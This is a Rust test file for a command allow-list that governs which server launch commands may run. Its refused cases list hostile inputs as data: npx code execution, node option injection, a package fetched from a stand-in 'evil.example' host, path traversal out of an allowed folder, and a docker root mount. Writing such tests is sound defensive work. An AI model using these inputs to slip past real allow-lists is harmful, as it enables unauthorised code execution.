//! Command lines that patterns allow and refuse.

use super::*;

fn allows(patterns: &str, line: &[&str]) -> bool {
    let args: Vec<String> = line[1..].iter().map(|word| (*word).to_owned()).collect();
    patterns.parse::<AllowedCommands>().unwrap().refusal(line[0], &args, std::iter::empty(), false).is_none()
}

#[test]
fn a_working_directory_comes_with_no_pattern() {
    let refusal = |patterns: &str, program: &str| {
        patterns.parse::<AllowedCommands>().unwrap().refusal(program, &[], std::iter::empty(), true)
    };
    assert_eq!(refusal("a,b", "b"), Some(CommandRefusal::WorkingDirectory));
    assert_eq!(refusal("a,b", "c"), Some(CommandRefusal::CommandLine));
    assert_eq!((refusal("*", "c"), refusal("", "c")), (None, Some(CommandRefusal::CommandLine)));
}

#[test]
fn unset_allows_nothing_and_a_star_allows_all() {
    assert!(AllowedCommands::default().refusal("/opt/mcp/server", &[], std::iter::empty(), false).is_some());
    assert!(!allows("", &["true"]) && !allows(" , ", &["true"]));
    assert!(allows("*", &["sh", "-c", "true"]));
}

#[test]
fn a_package_pattern_allows_its_scope_and_arguments_of_the_server() {
    let pattern = "npx -y @scope/name*";
    for line in [
        &["npx", "-y", "@scope/name"][..],
        &["npx", "-y", "@scope/name-files@1.2.3", "/srv/data"],
        &["npx", "-y", "@scope/name@latest", "--root", "/srv"],
    ] {
        assert!(allows(pattern, line), "{line:?}");
    }
    assert!(allows("uvx mcp-server-git", &["uvx", "mcp-server-git", "--repository", "/srv/r"]));
}

#[test]
fn a_package_pattern_is_no_way_to_run_anything_else() {
    let pattern = "npx -y @scope/name*";
    for line in [
        &["npx", "-c", "touch /tmp/pwn"][..],
        &["npx", "-y", "-c", "touch /tmp/pwn"],
        &["npx", "-y", "--node-options=--require=/tmp/x.js", "@scope/name"],
        &["npx", "--node-options=--require=/tmp/x.js", "-y", "@scope/name"],
        &["npx", "-y", "-p", "evil", "@scope/name"],
        &["npx", "-y", "@scope/name@npm:evil"],
        &["npx", "-y", "@scope/name@https://evil.example/x.tgz"],
        &["npx", "-y", "@scope/name/../../evil"],
        &["npx", "-y", "@scope/name -c touch"],
        &["npx", "-y", "evil"],
        &["npx", "-y"],
        &["npx"],
        &["/tmp/npx", "-y", "@scope/name"],
        &["./npx", "-y", "@scope/name"],
    ] {
        assert!(!allows(pattern, line), "{line:?}");
    }
}

#[test]
fn an_interpreter_alone_allows_nothing_but_itself() {
    for program in ["node", "python3", "sh", "npx", "env", "docker", "/usr/bin/python3.11"] {
        assert!(allows(program, &[program]), "{program}");
        assert!(!allows(program, &[program, "anything"]), "{program}");
    }
    for line in [
        &["python3", "-c", "import os"][..],
        &["node", "-e", "1"],
        &["env", "-S", "sh -c id"],
        &["docker", "run", "-v", "/:/h", "alpine"],
    ] {
        assert!(!allows("python3,node,env,docker", line), "{line:?}");
    }
}

#[test]
fn a_folder_allows_the_programs_below_it_and_nothing_beside() {
    let folder = "/opt/mcp/*";
    assert!(allows(folder, &["/opt/mcp/server"]) && allows(folder, &["/opt/mcp/deep/er/server"]));
    for program in [
        "/opt/mcp/",
        "/opt/mcp",
        "/opt/mcp/../sh",
        "/opt/mcp/x/../../sh",
        "/opt/mcp/./x",
        "/opt/mcp//x",
        "/opt/mcpx/y",
        "opt/mcp/x",
        "/opt/mcp/venv/bin/python3",
        "/opt/mcp/venv/bin/python3.12",
        "/opt/mcp/node_modules/.bin/tsx",
    ] {
        assert!(!allows(folder, &[program]), "{program}");
    }
}

#[test]
fn arguments_of_a_program_need_a_separate_star() {
    assert!(!allows("/opt/mcp/*", &["/opt/mcp/server", "--any"]));
    assert!(allows("/opt/mcp/* *", &["/opt/mcp/server", "--any", "thing"]));
    assert!(allows("/opt/mcp/server --root /srv/*", &["/opt/mcp/server", "--root", "/srv/a/b"]));
    assert!(!allows("/opt/mcp/server --root /srv/*", &["/opt/mcp/server", "--root", "/srv/../etc"]));
    assert!(!allows("/opt/mcp/server --root /srv/*", &["/opt/mcp/server", "--root"]));
    assert!(allows("docker run -i --rm mcp/time *", &["docker", "run", "-i", "--rm", "mcp/time", "UTC"]));
}

#[test]
fn a_star_inside_a_word_stays_inside_that_word_and_folder() {
    assert!(allows("/opt/mcp/run*", &["/opt/mcp/run-files"]));
    assert!(!allows("/opt/mcp/run*", &["/opt/mcp/run/../../sh"]) && !allows("/opt/mcp/run*", &["/opt/mcp/run/deeper"]));
}

#[test]
fn patterns_that_would_allow_everything_by_accident_are_refused() {
    for wrong in [
        "npx *",
        "npx -y *",
        "python3 *",
        "env *",
        "/usr/bin/docker *",
        "*,node",
        "* -y x",
        "/*",
        "a*b",
        "./x",
        "/opt/../x",
        "x **",
        "timeout 60 *",
        "env A=1 *",
        "env A=/x *",
        "nice -n 10 *",
        "xargs -n 1 *",
        "python3 -W ignore *",
        "python3 -W ignore /*",
        "timeout 60 /usr/bin/python3 *",
        "sudo -u mcp *",
        "docker run -v /srv:/srv *",
        "docker run --name x *",
        "docker exec box *",
        "git -C /srv *",
        "git *",
        "find /srv *",
        "make *",
        "taskset 1 *",
        "conda run -n base *",
    ] {
        assert!(wrong.parse::<AllowedCommands>().is_err(), "{wrong}");
    }
}

#[test]
fn patterns_that_name_what_is_run_may_leave_its_arguments_open() {
    for right in [
        "java -jar x.jar *",
        "sh /opt/x.sh *",
        "python3 -u /opt/x.py *",
        "python3 -m mcp_server_time *",
        "node --max-old-space-size=512 /opt/x.js *",
        "timeout 60 /opt/mcp/server *",
        "docker run -i --rm mcp/time *",
        "uvx mcp-server-git *",
        "npx -y @scope/name *",
        "pnpm dlx @scope/name *",
        "uv run server.py *",
        "uv --directory /srv run server.py *",
        "/opt/mcp/server *",
        "git",
    ] {
        assert!(right.parse::<AllowedCommands>().is_ok(), "{right}");
    }
}

proptest::proptest! {
    #[test]
    fn no_path_below_a_folder_leads_out_of_it(path in "(/|\\.|a|mcp|opt){0,12}", start in "(/opt/mcp/|/opt/mcp|)") {
        let program = format!("{start}{path}");
        if allows("/opt/mcp/*", &[&program]) {
            let lexical = std::path::Path::new(&program).components();
            proptest::prop_assert!(lexical.clone().all(|part| part != std::path::Component::ParentDir), "{program}");
            proptest::prop_assert!(program.starts_with("/opt/mcp/") && lexical.count() > 3, "{program}");
        }
    }
}
